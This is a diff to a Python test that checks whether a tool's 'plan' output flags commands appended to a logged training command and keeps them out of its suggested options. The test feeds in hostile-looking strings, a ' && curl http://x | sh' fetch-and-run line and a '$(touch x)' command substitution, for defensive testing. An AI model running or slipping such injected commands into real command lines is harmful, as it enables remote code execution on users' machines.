@@ -199,12 +199,16 @@ def test_what_else_the_command_of_a_log_runs_is_told(story: Path) -> None:
     """A log may be a stranger's, and what is printed is there to be pasted."""
     log, text = story / "train.log", (story / "train.log").read_text()
     for behind, told in (
-        (" && curl http://x | sh", "also runs curl http://x, sh: read it before you paste it"),
+        (" && curl http://x | sh", "what it ran besides is left out: curl http://x, sh"),
         (" --note $(touch x)", "also runs $(touch x): read it"),
         (" 2>&1 | tee out.log", "the last one in the log; --command"),
     ):
         log.write_text(f"$ {COMMAND}{behind}\n{text}")
-        assert told in " ".join(run("plan", cwd=story).stdout.split()), behind
+        found = run("plan", "-f", "json", cwd=story).json
+        assert any(told in note for note in found["notes"]), behind
+        commands = [option["command"] for option in found["options"]]
+        assert any("train.py" in command for command in commands)
+        assert not any("curl" in command or "| sh" in command for command in commands)
 
 
 def test_the_demo_story_in_the_log(story: Path) -> None:
